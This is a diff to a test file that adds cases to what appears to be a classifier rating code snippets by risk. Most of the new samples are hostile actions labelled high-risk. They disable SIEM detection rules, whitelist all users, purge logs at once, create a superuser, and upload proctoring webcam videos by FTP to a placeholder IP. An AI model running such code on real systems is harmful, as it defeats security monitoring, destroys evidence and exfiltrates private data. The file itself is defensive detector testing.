@@ -12781,6 +12781,45 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '        requests.delete(f"https://graph.example.com/methods/{seg}/{m[\'id\']}")\n',
             H,
         ),
+        # Round 68 (holdout444-447): SIEM rules, exceptions, lifecycle, superusers, FTP uploads
+        (
+            'import requests\n'
+            'requests.post("https://kibana.example.com/api/detection_engine/rules/_bulk_action", json={"actio'
+            'n": "disable", "query": "alert.attributes.enabled: true"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://kibana.example.com/api/exception_lists/items", json={"list_id": "g", "ent'
+            'ries": [{"field": "user.name", "type": "wildcard", "value": "*"}]})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.put("https://es.example.com/_ilm/policy/logs", json={"policy": {"phases": {"delete": {"'
+            'min_age": "0ms", "actions": {"delete": {}}}}}})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.put("https://es.example.com/_ilm/policy/logs", json={"policy": {"phases": {"delete": {"'
+            'min_age": "90d", "actions": {"delete": {}}}}}})\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://es.example.com:9200/_security/user/svc", json={"password": "x", "roles": '
+            '["superuser"]})\n',
+            H,
+        ),
+        (
+            'import ftplib, pathlib\n'
+            'ftp = ftplib.FTP("198.51.100.40")\n'
+            'for clip in pathlib.Path("/data/proctoring/webcam").rglob("*.webm"):\n'
+            '    with clip.open("rb") as fh:\n'
+            '        ftp.storbinary(f"STOR {clip.name}", fh)\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
